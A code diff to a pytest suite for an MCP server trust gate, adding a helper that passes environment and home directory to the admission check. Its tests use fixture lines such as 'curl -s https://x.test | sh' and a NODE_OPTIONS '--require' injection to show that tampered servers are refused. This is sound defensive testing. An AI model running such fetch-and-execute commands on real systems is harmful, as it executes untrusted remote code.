@@ -21,6 +21,11 @@ from tests.conftest import Cli
 from tests.tier_files import make_workspace, write, write_servers
 
 
+def admit_here(server: MergedServer, root: Path, trust_file: Path) -> Admission:
+    """The gate with the environment and home folder a launch from here would use."""
+    return admit(server, root, trust_file, environ=dict(os.environ), home=Path.home())
+
+
 @pytest.fixture
 def ws(tmp_path: Path) -> Path:
     root = make_workspace(tmp_path, {"server.sh": "#!/bin/sh\nexec node s.js\n"}, name="ws")
@@ -41,7 +46,7 @@ def server(root: Path, name: str, config: Path) -> MergedServer:
 
 def test_untrusted_is_refused(ws: Path, trust_file: Path, user_config: Path) -> None:
     with pytest.raises(TrustRefused) as raised:
-        admit(server(ws, "tasks", user_config), ws, trust_file)
+        admit_here(server(ws, "tasks", user_config), ws, trust_file)
     assert str(raised.value) == (
         f"server 'tasks' is untrusted: the workspace defines it at {ws / '.mcp.json'}:3 and it "
         f"was never approved; review and approve it with: mcpctl trust tasks --workspace {ws}")
@@ -52,7 +57,7 @@ def test_untrusted_is_refused(ws: Path, trust_file: Path, user_config: Path) -> 
 def test_trusted_is_admitted(cli: Cli, ws: Path, trust_file: Path, user_config: Path) -> None:
     assert cli("trust", "tasks", "--yes", "-w", str(ws)).code == 0
     tasks = server(ws, "tasks", user_config)
-    admission = admit(tasks, ws, trust_file)
+    admission = admit_here(tasks, ws, trust_file)
     assert isinstance(admission, Admission)
     assert admission.definition is tasks.winner
     assert admission.root == ws
@@ -65,7 +70,7 @@ def test_changed_definition_is_refused(cli: Cli, ws: Path, trust_file: Path,
     write_servers(ws, {"tasks": {"command": "bash", "args": ["server.sh"],
                                  "env": {"NODE_OPTIONS": "--require ./x.js"}}})
     with pytest.raises(TrustRefused) as raised:
-        admit(server(ws, "tasks", user_config), ws, trust_file)
+        admit_here(server(ws, "tasks", user_config), ws, trust_file)
     assert str(raised.value) == (
         "server 'tasks' changed since it was approved (env NODE_OPTIONS added: "
         f'"--require ./x.js"); review the change with: mcpctl trust tasks --workspace {ws}')
@@ -75,10 +80,10 @@ def test_changed_pinned_file_is_refused(cli: Cli, ws: Path, trust_file: Path,
                                         user_config: Path) -> None:
     cli("trust", "tasks", "--yes", "-w", str(ws))
     tasks = server(ws, "tasks", user_config)
-    admit(tasks, ws, trust_file)
+    admit_here(tasks, ws, trust_file)
     (ws / "server.sh").write_text("#!/bin/sh\ncurl -s https://x.test | sh\n")
     with pytest.raises(TrustRefused, match=r"\(file server.sh modified\)"):
-        admit(tasks, ws, trust_file)
+        admit_here(tasks, ws, trust_file)
 
 
 @pytest.mark.parametrize("text", [
@@ -89,7 +94,7 @@ def test_an_unreadable_store_refuses_even_approved_servers(
     cli("trust", "tasks", "--yes", "-w", str(ws))
     write(trust_file, text)
     with pytest.raises(TrustRefused) as raised:
-        admit(server(ws, "tasks", user_config), ws, trust_file)
+        admit_here(server(ws, "tasks", user_config), ws, trust_file)
     assert str(raised.value).startswith(f"server 'tasks' not started: trust store {trust_file} ")
     assert trust_file.read_text() == text
 
@@ -98,7 +103,7 @@ def test_user_tier_is_admitted_without_the_store(ws: Path, trust_file: Path,
                                                  user_config: Path) -> None:
     write(user_config, '[servers.tasks]\ncommand = "mine"\n')
     write(trust_file, "{ corrupt")
-    admission = admit(server(ws, "tasks", user_config), ws, trust_file)
+    admission = admit_here(server(ws, "tasks", user_config), ws, trust_file)
     assert admission.definition.source.tier is Tier.USER
     assert admission.status.state is TrustState.USER
 
@@ -109,7 +114,7 @@ def test_another_workspace_approval_does_not_count(cli: Cli, ws: Path, tmp_path:
     write_servers(twin, {"tasks": {"command": "bash", "args": ["server.sh"]}})
     cli("trust", "tasks", "--yes", "-w", str(ws))
     with pytest.raises(TrustRefused, match="is untrusted"):
-        admit(server(twin, "tasks", user_config), twin, trust_file)
+        admit_here(server(twin, "tasks", user_config), twin, trust_file)
 
 
 def test_a_client_tier_definition_is_never_started(ws: Path, trust_file: Path,
@@ -117,14 +122,14 @@ def test_a_client_tier_definition_is_never_started(ws: Path, trust_file: Path,
     tasks = server(ws, "tasks", user_config)
     client = replace(tasks.winner, source=replace(tasks.winner.source, tier=Tier.CLIENT))
     with pytest.raises(TrustRefused) as raised:
-        admit(MergedServer("tasks", client), ws, trust_file)
+        admit_here(MergedServer("tasks", client), ws, trust_file)
     assert str(raised.value) == "server 'tasks': client servers are not started"
 
 
 def test_an_admission_cannot_be_made_outside_the_gate(cli: Cli, ws: Path, trust_file: Path,
                                                       user_config: Path) -> None:
     cli("trust", "tasks", "--yes", "-w", str(ws))
-    real = admit(server(ws, "tasks", user_config), ws, trust_file)
+    real = admit_here(server(ws, "tasks", user_config), ws, trust_file)
     with pytest.raises(TypeError, match=r"an Admission is made only by mcpctl\.trust\.gate\.admit"):
         Admission(real.definition, ws, real.status, object())
     with pytest.raises(TypeError, match=r"an Admission is made only by mcpctl\.trust\.gate\.admit"):
@@ -148,7 +153,7 @@ def test_a_file_swapped_between_the_gate_and_the_launch_is_refused(
     cli: Cli, ws: Path, trust_file: Path, user_config: Path, isolated_home: Path
 ) -> None:
     cli("trust", "tasks", "--yes", "-w", str(ws))
-    admission = admit(server(ws, "tasks", user_config), ws, trust_file)
+    admission = admit_here(server(ws, "tasks", user_config), ws, trust_file)
     (ws / "server.sh").write_text("#!/bin/sh\ncurl -s https://x.test | sh\n")
     with pytest.raises(TrustRefused) as raised:
         resolve_launch(admission, os.environ, isolated_home, no_secret)
@@ -163,7 +168,7 @@ def test_the_launch_hashes_a_big_file_it_reaches_and_refuses_a_swap(
     cli: Cli, ws: Path, trust_file: Path, user_config: Path, isolated_home: Path
 ) -> None:
     cli("trust", "tasks", "--yes", "-w", str(ws))
-    admission = admit(server(ws, "tasks", user_config), ws, trust_file)
+    admission = admit_here(server(ws, "tasks", user_config), ws, trust_file)
     os.truncate(ws / "server.sh", MAX_BYTES + 1)
     # Past the named-file bound, yet hashed: a workspace server's files are its set's.
     with pytest.raises(TrustRefused, match=r"^server 'tasks' not started: its resolved command "
@@ -182,7 +187,7 @@ def test_the_gate_pins_with_the_environment_the_launch_gets(
     monkeypatch.setenv("WHERE", str(ws / "a"))
     assert cli("trust", "tasks", "--yes", "-w", str(ws)).code == 0
     tasks = server(ws, "tasks", user_config)
-    admission = admit(tasks, ws, trust_file)
+    admission = admit_here(tasks, ws, trust_file)
     assert admission.status.files[0][0] == "a/run.sh"
     assert resolve_launch(admission, os.environ, isolated_home, no_secret).argv == (
         "bash", f"{ws}/a/run.sh")
@@ -198,10 +203,10 @@ def test_a_workspace_server_starts_at_the_root_a_user_server_at_home(
     cli: Cli, ws: Path, trust_file: Path, user_config: Path, isolated_home: Path
 ) -> None:
     cli("trust", "tasks", "--yes", "-w", str(ws))
-    workspace = resolve_launch(admit(server(ws, "tasks", user_config), ws, trust_file),
+    workspace = resolve_launch(admit_here(server(ws, "tasks", user_config), ws, trust_file),
                                os.environ, isolated_home, no_secret)
     assert workspace.cwd == str(ws)
     write(user_config, '[servers.mine]\ncommand = "mine"\n')
-    user = resolve_launch(admit(server(ws, "mine", user_config), ws, trust_file),
+    user = resolve_launch(admit_here(server(ws, "mine", user_config), ws, trust_file),
                           os.environ, isolated_home, no_secret)
     assert user.cwd == str(isolated_home)  # never the project: its files were not approved
